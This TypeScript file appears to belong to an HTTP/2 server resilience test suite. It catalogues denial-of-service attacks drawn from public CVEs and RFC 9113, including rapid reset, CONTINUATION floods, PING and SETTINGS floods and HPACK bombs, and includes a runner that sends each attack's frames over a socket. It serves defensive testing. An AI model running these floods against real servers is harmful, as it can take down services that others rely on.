import type { Http2Client } from './client.js'
import {
  continuation,
  data,
  frame,
  headers,
  ping,
  priority,
  priorityUpdate,
  reset,
  SETTING,
  settings,
  windowUpdate,
} from './frames.js'
import { indexed, literal } from './hpack.js'
import { get, hang, open, requestBlock } from './rule.js'

/** A client that means harm, within bounds. */
export interface Attack {
  readonly name: string
  /** Where it was described. */
  readonly source: string
  /** Pieces to send, one after the other, as long as the server takes them. */
  readonly pieces: () => Iterable<Buffer>
  /** The client reads nothing meanwhile. */
  readonly deaf?: boolean
  /**
   * What has to come of it: `calm`: GOAWAY with ENHANCE_YOUR_CALM, or an end for which that could not be said to a client that
   * does not read; `refused`: some GOAWAY, RST_STREAM or 4xx; `bounded`: nothing but memory that stays within bounds
   */
  readonly outcome: 'calm' | 'refused' | 'bounded'
  /** Requests that a handler may see at most. */
  readonly seen?: number
}

/** So many pieces, of which each has several frames. */
function* flood(total: number, each: (i: number) => Buffer, together = 100): Iterable<Buffer> {
  for (let i = 0; i < total; i += together) {
    yield Buffer.concat(Array.from({ length: Math.min(together, total - i) }, (_, j) => each(i + j)))
  }
}

function* first(head: Buffer, rest: Iterable<Buffer>): Iterable<Buffer> {
  yield head
  yield* rest
}

const begun = headers(1, requestBlock(), { whole: false })
const BOMB = literal('x', 'y'.repeat(4_000), 'indexed')

/** Attacks that servers have fallen to. */
export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    source: 'CVE-2023-44487',
    pieces: () => flood(20_000, (i) => Buffer.concat([hang(2 * i + 1), reset(2 * i + 1)])),
    outcome: 'calm',
    seen: 5_000,
  },
  {
    name: 'rapid reset of requests that are answered at once',
    source: 'CVE-2023-44487',
    pieces: () => flood(20_000, (i) => Buffer.concat([get(2 * i + 1), reset(2 * i + 1)])),
    outcome: 'calm',
    seen: 5_000,
  },
  {
    name: 'resets that the server is made to send, by window updates of 0',
    source: 'CVE-2025-8671',
    pieces: () => flood(20_000, (i) => Buffer.concat([hang(2 * i + 1), windowUpdate(2 * i + 1, 0)])),
    outcome: 'calm',
    seen: 5_000,
  },
  {
    name: 'resets that the server is made to send, by DATA behind the end',
    source: 'CVE-2025-8671',
    pieces: () => flood(20_000, (i) => Buffer.concat([hang(2 * i + 1), data(2 * i + 1, 'x')])),
    outcome: 'calm',
    seen: 5_000,
  },
  {
    name: 'malformed requests',
    source: 'CVE-2025-8671',
    pieces: () => flood(20_000, (i) => headers(2 * i + 1, Buffer.from([0x82]))),
    outcome: 'calm',
    seen: 0,
  },
  {
    name: 'streams beyond the limit, one after the other',
    source: 'RFC 9113 §10.5',
    pieces: () => flood(20_000, (i) => open(2 * i + 1)),
    outcome: 'calm',
    seen: 5_000,
  },
  {
    name: 'a field block that never ends',
    source: 'CVE-2024-27316',
    pieces: () =>
      first(
        begun,
        flood(100_000, (i) => continuation(1, literal(`x${i}`, 'y'), false)),
      ),
    outcome: 'refused',
    seen: 0,
  },
  {
    name: 'a field block that never ends, of large frames',
    source: 'CVE-2024-27316',
    pieces: () =>
      first(
        begun,
        flood(2_000, () => continuation(1, literal('x', 'y'.repeat(16_000)), false), 4),
      ),
    outcome: 'refused',
    seen: 0,
  },
  {
    name: 'a field block of empty frames',
    source: 'CVE-2019-9518',
    pieces: () =>
      first(
        begun,
        flood(100_000, () => continuation(1, Buffer.alloc(0), false)),
      ),
    outcome: 'refused',
    seen: 0,
  },
  {
    name: 'empty DATA',
    source: 'CVE-2019-9518',
    pieces: () =>
      first(
        open(1),
        flood(100_000, () => data(1, '')),
      ),
    outcome: 'calm',
  },
  {
    name: 'DATA of nothing but padding',
    source: 'CVE-2019-9518',
    pieces: () =>
      first(
        open(1),
        flood(50_000, () => data(1, '', { pad: 0 })),
      ),
    outcome: 'refused',
  },
  {
    name: 'SETTINGS whose acknowledgements are not read',
    source: 'CVE-2019-9515',
    pieces: () => flood(300_000, () => settings(), 500),
    deaf: true,
    outcome: 'calm',
  },
  {
    name: 'SETTINGS that change something each time',
    source: 'CVE-2019-9515',
    pieces: () => flood(100_000, (i) => settings([SETTING.HEADER_TABLE_SIZE, (i % 2) * 4_096])),
    deaf: true,
    outcome: 'calm',
  },
  {
    name: 'SETTINGS of many parameters',
    source: 'CVE-2020-11080',
    pieces: () => {
      const many = settings(
        ...Array.from({ length: 2_700 }, () => [SETTING.INITIAL_WINDOW_SIZE, 1_000] as const),
      )
      return first(
        get(1),
        flood(1_000, () => many, 4),
      )
    },
    outcome: 'bounded',
  },
  {
    name: 'PING whose answers are not read',
    source: 'CVE-2019-9512',
    pieces: () => flood(300_000, () => ping(), 500),
    deaf: true,
    outcome: 'calm',
  },
  {
    name: 'PRIORITY of ever new streams',
    source: 'CVE-2019-9513',
    pieces: () => flood(200_000, (i) => priority(2 * i + 1, 2 * i + 3), 500),
    outcome: 'bounded',
  },
  {
    name: 'PRIORITY_UPDATE of ever new streams',
    source: 'RFC 9218 §13.1',
    pieces: () => flood(200_000, (i) => priorityUpdate(2 * i + 1, 'u=1,i'), 500),
    outcome: 'bounded',
  },
  {
    name: 'WINDOW_UPDATE of the connection',
    source: 'RFC 9113 §10.5',
    pieces: () => flood(200_000, () => windowUpdate(0, 1), 500),
    outcome: 'bounded',
  },
  {
    name: 'unknown frames',
    source: 'RFC 9113 §10.5',
    pieces: () => flood(200_000, () => frame(0x16, 0, 0), 500),
    outcome: 'bounded',
  },
  {
    name: 'RST_STREAM of a closed stream',
    source: 'RFC 9113 §10.5',
    pieces: () =>
      first(
        Buffer.concat([hang(1), reset(1)]),
        flood(200_000, () => reset(1), 500),
      ),
    outcome: 'bounded',
  },
  {
    name: 'a block that grows when it is decoded',
    source: 'CVE-2016-6581',
    pieces: () => [
      headers(1, Buffer.concat([requestBlock(), BOMB])),
      headers(3, Buffer.concat([requestBlock(), ...Array.from({ length: 16_000 }, () => indexed(62))])),
    ],
    outcome: 'refused',
    seen: 1,
  },
  {
    name: 'blocks that grow when they are decoded, one after the other',
    source: 'CVE-2016-6581',
    pieces: () =>
      first(
        headers(1, Buffer.concat([requestBlock(), BOMB])),
        flood(
          100,
          (i) =>
            headers(
              2 * i + 3,
              Buffer.concat([requestBlock(), ...Array.from({ length: 16_000 }, () => indexed(62))]),
            ),
          1,
        ),
      ),
    outcome: 'refused',
    seen: 1,
  },
  {
    name: 'fields beyond the limit',
    source: 'RFC 9113 §10.5.1',
    pieces: () => [
      headers(1, requestBlock(), { whole: false }),
      ...Array.from({ length: 20 }, (_, i) => continuation(1, literal('x', 'y'.repeat(10_000)), i === 19)),
    ],
    outcome: 'refused',
    seen: 0,
  },
  {
    name: 'thousands of small fields',
    source: 'CVE-2019-9516',
    pieces: () => [
      headers(1, Buffer.concat([requestBlock(), ...Array.from({ length: 4_000 }, () => literal('x', ''))])),
    ],
    outcome: 'refused',
    seen: 0,
  },
  {
    name: 'thousands of crumbs of cookies',
    source: 'CVE-2016-8740',
    pieces: () => [
      headers(1, Buffer.concat([requestBlock(), ...Array.from({ length: 15_000 }, () => indexed(32))])),
    ],
    outcome: 'refused',
    seen: 0,
  },
]

/** What a client has noticed. */
export interface Outcome {
  /** The server has taken everything. */
  readonly took: boolean
  readonly codes: readonly number[]
  readonly statuses: readonly number[]
  readonly gone: boolean
}

/** How long a server may leave bytes unread before the client takes that for its answer, in ms. */
const STALL = 30_000

/** Sends what an attack consists of until the server no longer takes it, and tells what has come of it. */
export async function perform(attack: Attack, client: Http2Client): Promise<Outcome> {
  const { socket } = client
  if (attack.deaf) socket.pause()
  let took = true
  for (const piece of attack.pieces()) {
    if (client.gone || client.goaway !== undefined || socket.destroyed) break
    if (socket.write(piece)) {
      // what the server has said may have come meanwhile
      if (!attack.deaf) await new Promise((resolve) => setImmediate(resolve))
      continue
    }
    took = await drained(client)
    if (!took) break
  }
  socket.resume()
  if (attack.outcome !== 'bounded' || client.gone) await ending(client)
  const codes = [...client.streams.values()].map((stream) => stream.reset)
  return {
    took,
    gone: client.gone,
    codes: [...new Set([client.goaway?.code, ...codes].filter((code) => code !== undefined))],
    statuses: [...new Set([...client.streams.keys()].map((id) => client.status(id) ?? 0))],
  }
}

function drained({ socket }: Http2Client): Promise<boolean> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => done(false), STALL)
    const done = (went: boolean) => {
      clearTimeout(timer)
      socket.off('drain', ondrain).off('close', onclose)
      resolve(went)
    }
    const ondrain = () => done(true)
    const onclose = () => done(false)
    socket.on('drain', ondrain).on('close', onclose)
  })
}

/** Waits for GOAWAY, or for the answer to a PING that shows that none will come. */
async function ending(client: Http2Client): Promise<void> {
  if (client.goaway !== undefined) return
  try {
    await client.roundTrip()
  } catch {
    // gone, or silent: the outcome tells
  }
}
